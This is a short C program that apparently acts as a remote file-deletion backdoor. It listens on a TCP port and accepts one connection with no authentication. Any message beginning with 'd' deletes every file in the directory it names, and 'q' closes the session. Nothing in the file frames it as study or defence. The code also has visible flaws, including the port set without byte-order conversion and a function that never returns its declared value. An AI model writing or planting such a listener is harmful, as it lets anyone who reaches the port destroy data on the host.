#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <dirent.h>
#define SIZE 1024

void del_in_dir(char *dirname) {
	DIR *fol = opendir(dirname);
	if(fol == NULL) return;
	struct dirent *next_f;
	char f_path[SIZE];
	while ((next_f = readdir(fol)) != NULL) {
		sprintf(f_path, "%s/%s", dirname, next_f->d_name);
		remove(f_path);
	}
	closedir(fol);
}

int do_run(int sockfd) {
	char buffer[SIZE];
	do {
		memset(buffer, 0, SIZE);
		if (recv(sockfd, buffer, SIZE, 0) <= 0) break;
		if (buffer[0] == 'q') break;
		if (buffer[0] == 'd') del_in_dir(&buffer[1]);
	} while (1);
}

int main() {
	char *ip = "192.168.0.1";
	int port = 8080;

	int sockfd, new_sock;
	struct sockaddr_in server_addr, new_addr;
	socklen_t addr_size;

	sockfd = socket(AF_INET, SOCK_STREAM, 0);
	if (sockfd < 0) return 1;

	server_addr.sin_family = AF_INET;
	server_addr.sin_port = port;
	server_addr.sin_addr.s_addr = inet_addr(ip);

	if (bind(sockfd, (struct sockaddr *)&server_addr, sizeof(server_addr)) < 0) return 1;
	if (listen(sockfd, 10) != 0) return 1;

	addr_size = sizeof(new_addr);

	new_sock = accept(sockfd, (struct sockaddr *)&new_addr, &addr_size);
	if (new_sock < 0) return 1;
	do_run(new_sock);

	return 0;
}
